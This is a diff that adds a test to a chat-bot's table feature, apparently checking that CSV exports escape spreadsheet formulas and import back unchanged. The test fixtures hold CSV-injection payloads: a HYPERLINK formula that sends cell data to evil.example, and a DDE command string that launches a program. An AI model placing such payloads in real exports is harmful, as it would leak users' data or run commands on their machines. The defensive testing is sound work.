@@ -114,6 +114,33 @@ describe('/table: a Dispatcher keeps the tables, everyone reads them', () => {
     expect(await exportOf(reload.name, 'csv')).toBe(tableToCsv(reload));
   });
 
+  it('a CSV export any member downloads runs no formula in a spreadsheet, and imports back to the same table', async () => {
+    sandbox = await startTestSandbox();
+    const traps: OutcomeTable = {
+      name: 'Traps',
+      die: 'd100',
+      asks: '',
+      skill: null,
+      rows: [
+        row(1, 25, '=HYPERLINK("https://evil.example/?x="&A1,"Claim your loot")'),
+        row(26, 50, "+cmd|' /C calc'!A0", { next: '@Trap' }),
+        row(51, 75, '-10 on your next roll'),
+        row(76, 100, 'Nothing happens.'),
+      ],
+    };
+    await importJson(traps);
+    const csv = await exportOf('Traps', 'csv');
+    expect(csv.split('\n').slice(1, 5)).toEqual([
+      '1,25,"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Claim your loot"")",,',
+      '26,50,"\'+cmd|\' /C calc\'!A0","\'@Trap",',
+      '51,75,"\'-10 on your next roll",,',
+      '76,100,Nothing happens.,,',
+    ]);
+    const imported = await sandbox.one({ ...DISPATCHER, command: 'table import', options: { file: { filename: 'Traps.csv', content: csv }, replace: true } });
+    expect(imported.content).toContain('**Traps**: 4 rows');
+    expect(await exportOf('Traps')).toBe(tableToJson(traps));
+  });
+
   it('refuses a non-Dispatcher privately, naming the role, and changes nothing', async () => {
     sandbox = await startTestSandbox();
     await importJson(reload);
